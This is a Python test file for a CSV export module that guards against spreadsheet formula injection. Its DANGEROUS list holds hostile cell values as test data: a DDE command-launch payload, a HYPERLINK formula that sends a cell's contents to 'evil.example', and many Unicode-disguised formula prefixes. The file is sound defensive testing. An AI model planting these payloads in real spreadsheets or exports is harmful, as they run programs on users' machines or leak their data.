"""Tables that spreadsheets open and run nothing of."""

import csv
import unicodedata
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notify.domain.csv_out import harmless, table

DANGEROUS = [
    pytest.param("=1+1", id="formula"),
    pytest.param("=cmd|' /C calc'!A0", id="another program"),
    pytest.param(
        '=HYPERLINK("http://evil.example/?"&A1,"Klick")', id="link that takes a cell along"
    ),
    pytest.param("+49 151 12345678", id="plus"),
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(1,1)", id="at"),
    pytest.param("|calc", id="pipe"),
    pytest.param("%0A=1+1", id="per cent"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="return"),
    pytest.param("\n=1+1", id="line feed"),
    pytest.param("\tgut", id="tab before a word"),
    pytest.param("  =1+1", id="spaces"),
    pytest.param("\u00a0=1+1", id="space that does not break"),
    pytest.param("\u3000=1+1", id="wide space"),
    pytest.param("\u200b=1+1", id="space of no width"),
    pytest.param("\ufeff=1+1", id="byte order mark"),
    pytest.param("\u202e=1+1", id="turned around"),
    pytest.param("\u2028=1+1", id="line separator"),
    pytest.param("\0=1+1", id="NUL"),
    pytest.param("\x1b=1+1", id="escape"),
    pytest.param("\uff1d1+1", id="full-width equals"),
    pytest.param("\uff0b1", id="full-width plus"),
    pytest.param("\uff0d1", id="full-width minus"),
    pytest.param("\uff20SUM(1)", id="full-width at"),
    pytest.param("\ufe621", id="small plus"),
    pytest.param("\ufe631", id="small hyphen"),
    pytest.param("\u207a1", id="raised plus"),
    pytest.param("\u22121", id="sign for minus"),
    pytest.param(" \t\u200b \uff1d1", id="all of it"),
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_might_run_begins_with_an_apostrophe(text: str) -> None:
    assert harmless(text) == "'" + text.replace("\0", "")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Anna",
        "1+1",
        "a=b",
        "'=1",
        "…678",
        "a…@example.org",
        "2026-11-26 14:00",
        "„=1“",
        " Anna",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_cell_stays_one_cell_whatever_it_holds(separator: str) -> None:
    cells = ['a";=1+1', "a,=1+1", "a;=1+1", 'a\r\n"=1+1', 'a"', ""]

    written = table([cells, [1, None, -5]], separator=separator)

    rows = list(csv.reader(StringIO(written, newline=""), delimiter=separator, strict=True))
    assert rows == [cells, ["1", "", "-5"]]
    assert written.endswith("\r\n")


@given(st.lists(st.text(), min_size=2, max_size=4))
def test_nothing_read_back_begins_as_a_formula(cells: list[str]) -> None:
    (row,) = csv.reader(StringIO(table([cells], separator=";"), newline=""), delimiter=";")

    assert len(row) == len(cells)
    for cell, was in zip(row, cells, strict=True):
        assert cell.removeprefix("'").replace("\0", "") == was.removeprefix("'").replace("\0", "")
        first = cell.strip()[:1]
        assert unicodedata.normalize("NFKC", first)[:1] not in {"=", "+", "-", "@"}
